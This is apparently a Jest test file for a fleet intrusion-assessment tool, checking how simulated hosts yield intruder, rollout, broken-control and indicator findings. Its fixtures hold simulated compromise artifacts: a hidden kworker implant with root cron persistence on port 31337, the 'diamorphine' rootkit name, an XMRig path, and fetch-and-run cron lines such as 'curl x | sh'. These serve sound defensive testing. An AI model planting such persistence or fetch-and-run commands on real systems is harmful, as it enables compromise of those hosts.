import { describe, expect, test } from '@jest/globals'
import fc from 'fast-check'
import type { Finding } from '../../src/analyze/finding.ts'
import { assess } from '../../src/assess.ts'
import { baseline, findingsOf, TODAY } from '../support/findings.ts'
import { facts, fleet, healthy, host, hostId, QUERIES, query } from '../support/fleets.ts'

const implant = (hosts: number[]) => (index: number, rows: ReturnType<typeof Object.create>) => {
  if (!hosts.includes(index)) return
  rows.programs.push({ path: '/usr/lib/.cache/kworker', username: 'root', pid: '4242' })
  rows.ports.push({ protocol: '6', port: '31337', path: '/usr/lib/.cache/kworker' })
  rows.cron.push({ path: '/var/spool/cron/crontabs/root', command: '* * * * * /usr/lib/.cache/kworker' })
}

describe('without a baseline', () => {
  test('a healthy fleet with per-host noise has no finding', async () => {
    expect(await findingsOf(fleet(60))).toEqual([])
  })

  test('an implant on one host is one high finding with all its rows', async () => {
    const findings = await findingsOf(fleet(60, implant([17])))
    expect(findings).toHaveLength(1)
    expect(findings[0]).toMatchObject({
      kind: 'deviation',
      verdict: 'intruder',
      severity: 'high',
      hosts: [hostId(17)]
    })
    expect(findings[0]!.rows.map(row => row.query).sort()).toEqual(['cron', 'ports', 'programs'])
    expect(findings[0]!.rows[0]!.prevalence.cluster).toEqual([1, 60])
  })

  test('the same implant on five hosts is one finding', async () => {
    const findings = await findingsOf(fleet(60, implant([3, 9, 21, 22, 40])))
    expect(findings).toHaveLength(1)
    expect(findings[0]!.hosts).toEqual([3, 9, 21, 22, 40].map(hostId))
    expect(findings[0]!.severity).toBe('high')
  })

  test('per-host random file names of one implant stay in its finding', async () => {
    const findings = await findingsOf(
      fleet(60, (index, rows) => {
        implant([3, 9, 21])(index, rows)
        if ([3, 9, 21].includes(index))
          rows.programs!.push({ path: `/tmp/.X${index * 7331}aQ${index}z`, username: 'root' })
      })
    )
    expect(findings).toHaveLength(1)
    expect(findings[0]!.rows.filter(row => row.query === 'programs')).toHaveLength(4)
  })

  test('the volatile columns of a row come along as evidence', async () => {
    const [finding] = await findingsOf(fleet(60, implant([17])))
    expect(finding!.rows.find(row => row.query === 'programs')!.row).toEqual({
      path: '/usr/lib/.cache/kworker',
      username: 'root',
      pid: '4242'
    })
  })

  test('a kernel module of an unknown family on one host is medium, whatever else the fleet shows', async () => {
    const findings = await findingsOf(
      fleet(60, (index, rows) => index === 4 && rows.modules!.push({ name: 'diamorphine' }))
    )
    expect(findings).toMatchObject([{ severity: 'medium', hosts: [hostId(4)], attack: ['T1547.006'] }])
  })

  test('a digest is compared within its package version: a rolling version is no finding, a changed file is', async () => {
    const findings = await findingsOf(
      fleet(60, (index, rows) => {
        if (index === 7) rows.binaries = [{ path: '/usr/sbin/sshd', version: '9.2p1', sha256: 'ff' }]
      })
    )
    expect(findings).toHaveLength(1)
    expect(findings[0]).toMatchObject({
      hosts: [hostId(7)],
      rows: [{ kind: 'changed', row: { sha256: 'ff' }, expected: { sha256: 'aa' } }]
    })
  })

  test('a stopped protection is a broken control', async () => {
    const findings = await findingsOf(
      fleet(60, (index, rows) => {
        if (index === 8) rows.guards = []
      })
    )
    expect(findings).toMatchObject([
      { verdict: 'broken-control', hosts: [hostId(8)], rows: [{ kind: 'missing' }] }
    ])
  })

  test('two rare rows that meet on one host are low where other hosts have one of either kind', async () => {
    const words = ['fern', 'opal', 'tern', 'moss', 'heron']
    const findings = await findingsOf(
      fleet(200, (index, rows) => {
        const word = words[index % 40]
        if (word === undefined) return
        const first = index < 40
        if (first) rows.cron!.push({ path: `/etc/cron.d/${word}`, command: `root /usr/lib/${word}/run` })
        if ((first && index === 0) || (index >= 40 && index < 80))
          rows.ports!.push({ protocol: '6', port: `${1000 + index}`, path: `/usr/bin/${word}-${index}` })
      })
    )
    expect(findings.filter(({ severity }) => severity !== 'low' && severity !== 'info')).toEqual([])
  })

  test('a kernel module of a family that loads on demand, on an eighth of the fleet, is low', async () => {
    const findings = await findingsOf(
      fleet(200, (index, rows) => index % 8 === 3 && rows.modules!.push({ name: 'snd_fern' }))
    )
    expect(findings.map(({ severity }) => severity)).toEqual(['low'])
  })

  test('an implant on half of the hosts of a small role is one finding', async () => {
    const implanted = [0, 20, 40, 60]
    const findings = await findingsOf(
      fleet(160, (index, rows) => {
        const role = `role${index % 20}`
        for (let at = 0; at < 8; at++) rows.programs!.push({ path: `/opt/${role}/${at}`, username: 'app' })
        if (!implanted.includes(index)) return
        rows.modules!.push({ name: 'rk' })
        rows.cron!.push({ path: '/etc/cron.d/x', command: 'curl x | sh' })
      })
    )
    expect(findings).toMatchObject([{ severity: 'high', hosts: implanted.map(hostId) }])
  })

  test('a protection stopped on a quarter of a small role is a broken control', async () => {
    const stopped = [0, 12, 24, 36, 48]
    const findings = await findingsOf(
      fleet(120, (index, rows) => {
        const role = index % 6 === 0 ? 'database' : 'web'
        for (let at = 0; at < 8; at++) rows.programs!.push({ path: `/opt/${role}/${at}`, username: 'app' })
        if (stopped.includes(index)) rows.guards = []
      })
    )
    expect(findings).toMatchObject([
      { verdict: 'broken-control', hosts: stopped.map(hostId), rows: [{ kind: 'missing' }] }
    ])
  })

  test('what only informs accuses nobody', async () => {
    const findings = await findingsOf(
      fleet(60, (index, rows) => index === 30 && rows.sessions!.push({ user: 'bob' }))
    )
    expect(findings).toEqual([])
  })

  test.each([
    ['modules', 'integrity', 'high'],
    ['guards', 'protections', 'high'],
    ['programs', 'normal weight', 'medium']
  ])(
    'a query that only one host did not answer is a deviation of that host, and none of its rows is missing: %s, of %s, is %s',
    async (name, _, severity) => {
      const hosts = fleet(60)
      const broken = { ...hosts[4]!, status: 'partial' as const, reason: `${name} failed` }
      hosts[4] = {
        ...broken,
        queries: { ...broken.queries, [name]: { status: 'failed', detail: 'x', rows: [] } }
      }
      expect(await findingsOf(hosts)).toMatchObject([
        { kind: 'deviation', verdict: 'broken-control', severity, hosts: [hostId(4)], rows: [] }
      ])
    }
  )

  test.each([
    ['all of them', ['guards', 'units'], 'medium'],
    ['only the one for protections', ['guards'], 'high']
  ])(
    'of the queries of units, one host answered none or some: without %s it is',
    async (_, lost, severity) => {
      const queries = [...QUERIES, query('units', ['name'], { sql: 'SELECT name FROM systemd_units' })]
      const hosts = fleet(60, (_index, rows) => {
        rows.units = [{ name: 'ssh.service' }]
      })
      const broken = { ...hosts[4]!, status: 'partial' as const, reason: 'the bus did not answer' }
      const failed = lost.map(name => [name, { status: 'failed' as const, detail: 'x', rows: [] }])
      hosts[4] = { ...broken, queries: { ...broken.queries, ...Object.fromEntries(failed) } }
      const question = { queries, baseline: null, indicators: [], today: TODAY }
      const { findings } = await assess(question, async function* () {
        yield* hosts
      })
      expect(findings).toMatchObject([{ verdict: 'broken-control', severity, hosts: [hostId(4)], rows: [] }])
    }
  )

  test('two hosts are too few for any statement', async () => {
    expect(await findingsOf(fleet(2, implant([1])))).toEqual([])
  })

  test('runs with and without root are not compared', async () => {
    const queries = QUERIES.map(one => (one.name === 'programs' ? { ...one, root: true } : one))
    const hosts = fleet(20)
    const rows = healthy(3)
    hosts[3] = host(hostId(3), { ...rows, programs: [] }, { facts: { ...facts, root: false } })
    const question = { queries, baseline: null, indicators: [], today: TODAY }
    const { findings } = await assess(question, async function* () {
      yield* hosts
    })
    expect(findings).toMatchObject([{ kind: 'partial', hosts: [hostId(3)] }])
  })
})

describe('against a baseline', () => {
  test('hosts as the baseline wants them have no finding', async () => {
    expect(await findingsOf(fleet(60), baseline())).toEqual([])
  })

  test('a kernel module new against the baseline on one host is critical', async () => {
    const findings = await findingsOf(
      fleet(60, (index, rows) => index === 4 && rows.modules!.push({ name: 'diamorphine' })),
      baseline()
    )
    expect(findings).toMatchObject([
      { verdict: 'intruder', severity: 'critical', rows: [{ baseline: 'new' }] }
    ])
  })

  test('a program new on most hosts is a rollout, one finding, medium', async () => {
    const findings = await findingsOf(
      fleet(
        60,
        (index, rows) =>
          index % 10 !== 0 && rows.programs!.push({ path: '/usr/bin/agent2', username: 'root' })
      ),
      baseline()
    )
    expect(findings).toMatchObject([{ verdict: 'rollout', severity: 'medium' }])
    expect(findings[0]!.hosts).toHaveLength(54)
  })

  test('a kernel module new on most hosts is never a rollout', async () => {
    const findings = await findingsOf(
      fleet(60, (index, rows) => index % 10 !== 0 && rows.modules!.push({ name: 'evil' })),
      baseline()
    )
    expect(findings).toMatchObject([{ verdict: 'intruder', severity: 'high' }])
    expect(findings[0]!.hosts).toHaveLength(54)
  })

  test('an optional row is no finding, wherever it is or is not', async () => {
    const hosts = fleet(60, (index, rows) => index === 9 && rows.modules!.push({ name: 'loop' }))
    expect(await findingsOf(hosts, baseline())).toEqual([])
  })

  test('a required row that most hosts lack is a rollout', async () => {
    const hosts = fleet(60, (index, rows) => {
      if (index > 5) rows.programs = rows.programs!.filter(row => row.path !== '/usr/sbin/cron')
    })
    expect(await findingsOf(hosts, baseline())).toMatchObject([
      {
        verdict: 'rollout',
        severity: 'medium',
        rows: [{ kind: 'missing', baseline: 'missing' }],
        explanation: expect.stringMatching(/^The baseline requires this row in programs, missing on 54 of 60/)
      }
    ])
  })

  test('an acceptance closes what it matches on the hosts it names, and nothing else', async () => {
    const accept = [
      {
        query: 'modules',
        match: { name: 'dia*' },
        hosts: [hostId(4)],
        reason: 'lab',
        owner: '@a/b',
        expires: '2026-12-31'
      }
    ]
    const hosts = fleet(
      60,
      (index, rows) => (index === 4 || index === 6) && rows.modules!.push({ name: 'diamorphine' })
    )
    const findings = await findingsOf(hosts, baseline({ accept }))
    expect(findings.filter(finding => finding.acceptedBy === null)).toMatchObject([
      { hosts: [hostId(6)], severity: 'critical' }
    ])
    expect(findings.filter(finding => finding.acceptedBy !== null)).toMatchObject([{ hosts: [hostId(4)] }])
  })

  test('an expired acceptance stops working and is reported; so is one that matches nothing', async () => {
    const accept = [
      { query: 'modules', match: { name: 'dia*' }, reason: 'lab', owner: '@a/b', expires: '2026-11-23' },
      { query: 'modules', match: { name: 'nothing' }, reason: 'old', owner: '@a/b', expires: '2026-12-31' }
    ]
    const hosts = fleet(60, (index, rows) => index === 4 && rows.modules!.push({ name: 'diamorphine' }))
    const findings = await findingsOf(hosts, baseline({ accept }))
    expect(findings.map(finding => finding.kind)).toEqual(['deviation', 'acceptance', 'acceptance'])
  })

  test('a host belongs to the role whose rows it shares most', async () => {
    const programs = (path: string) => ({
      queries: { programs: { columns: ['path', 'username'], required: [[path, 'app']], optional: [] } }
    })
    const { queries } = baseline()
    const common = {
      ...queries,
      programs: {
        ...queries.programs!,
        required: queries.programs!.required.filter(row => row[1] === 'root')
      }
    }
    const hosts = fleet(60, (index, rows) => {
      if (index % 2 === 0) rows.programs![2] = { path: '/usr/bin/java', username: 'app' }
    })
    const findings = await findingsOf(
      hosts,
      baseline({
        queries: common,
        roles: { node: programs('/usr/bin/node'), java: programs('/usr/bin/java') }
      })
    )
    expect(findings).toEqual([])
  })

  test('a learned pattern of the baseline matches any text of its kind', async () => {
    const { queries } = baseline()
    const programs = { ...queries.programs!, optional: [['/srv/job-<num>/run', 'app']] }
    const hosts = fleet(
      60,
      (index, rows) => index === 12 && rows.programs!.push({ path: '/srv/job-77/run', username: 'app' })
    )
    expect(await findingsOf(hosts, baseline({ queries: { ...queries, programs } }))).toEqual([])
  })
})

describe('indicators', () => {
  test('a program that is found has the host and the raw row', async () => {
    const hosts = fleet(
      60,
      (index, rows) =>
        index % 2 === 0 && rows.programs!.push({ path: '/opt/xmrig', username: 'app', pid: '7' })
    )
    const findings = await findingsOf(hosts, null, 'XMRig')
    expect(findings).toMatchObject([{ kind: 'indicator', severity: 'high', rows: [{ query: 'programs' }] }])
    expect(findings[0]!.hosts).toHaveLength(30)
  })

  test.each([
    ['/sshd$/', true],
    ['/^nothing$/', false],
    [`sha256:${'ab'.repeat(32)}`, true],
    ['ip:203.0.113.0/24', true],
    ['ip:203.0.114.0/24', false],
    ['ip:2001:db8::/32', true],
    ['ports.port=443', true],
    ['ports.port=44', false],
    ['programs.port=443', false]
  ])('%s is %s', async (indicator, met) => {
    const hosts = fleet(5, (index, rows) => {
      if (index === 1) {
        rows.cron!.push({
          path: '/x',
          command: 'curl http://203.0.113.77/a',
          sha256: 'AB'.repeat(32),
          extra: '2001:db8::5'
        })
      }
    })
    expect(
      (await findingsOf(hosts, null, indicator)).filter(finding => finding.kind === 'indicator')
    ).toHaveLength(met ? 1 : 0)
  })
})

describe('always', () => {
  const compromised = fleet(40, (index, rows) => {
    implant([3, 9])(index, rows)
    if (index === 20) rows.modules!.push({ name: 'rk' })
    if (index === 21) rows.guards = []
  })

  test('the order of hosts and rows changes nothing', async () => {
    const expected = JSON.stringify(await findingsOf(compromised))
    const shuffled = fc.shuffledSubarray(compromised, {
      minLength: compromised.length,
      maxLength: compromised.length
    })
    await fc.assert(
      fc.asyncProperty(shuffled, async hosts => {
        const turned = hosts.map(one => ({
          ...one,
          queries: Object.fromEntries(
            Object.entries(one.queries).map(([name, result]) => [
              name,
              { ...result, rows: [...result.rows].reverse() }
            ])
          )
        }))
        expect(JSON.stringify(await findingsOf(turned))).toBe(expected)
      }),
      { numRuns: 15 }
    )
  })

  test('a row that all hosts have changes no verdict', async () => {
    const plus = compromised.map(one => ({
      ...one,
      queries: {
        ...one.queries,
        programs: {
          ...one.queries.programs!,
          rows: [...one.queries.programs!.rows, { path: '/x', username: 'y' }]
        }
      }
    }))
    const brief = (findings: readonly Finding[]) =>
      findings.map(({ id, severity, hosts }) => ({ id, severity, hosts }))
    expect(brief(await findingsOf(plus))).toEqual(brief(await findingsOf(compromised)))
  })

  test('no rows of any shape make it throw', async () => {
    const row = fc.dictionary(
      fc.oneof(fc.constantFrom('path', 'name', '__proto__', 'sha256'), fc.string()),
      fc.string({ unit: 'binary' })
    )
    const hosts = fc.array(
      fc.record({
        id: fc.string({ minLength: 1 }),
        rows: fc.dictionary(fc.constantFrom(...QUERIES.map(one => one.name)), fc.array(row, { maxLength: 5 }))
      }),
      { maxLength: 8 }
    )
    await fc.assert(
      fc.asyncProperty(hosts, async list => {
        await findingsOf(
          list.map(one => host(one.id, one.rows)),
          baseline(),
          '/a/'
        )
      }),
      { numRuns: 150 }
    )
  })
})

test('of a host with very many rows of its own some are weighed, the rest counted and said', async () => {
  const many = Array.from({ length: 20_005 }, (_, at) => ({ path: `/opt/x/${at}`, username: 'root' }))
  const hosts = fleet(12)
  const flooding = hosts.map((record, at) => {
    const { programs } = record.queries
    if (at !== 3 || programs === undefined) return record
    const rows = [...programs.rows, ...many]
    return { ...record, queries: { ...record.queries, programs: { ...programs, rows } } }
  })
  const question = { queries: QUERIES, baseline: null, indicators: [], today: TODAY }
  const { analysis, findings } = await assess(question, async function* () {
    yield* flooding
  })
  expect(analysis.notices.join(' ')).toContain('5 more are counted as folded')
  expect(analysis.foldedRows).toBeGreaterThanOrEqual(5)
  expect(findings.some(({ kind, hosts }) => kind === 'deviation' && hosts.includes(hostId(3)))).toBe(true)
})
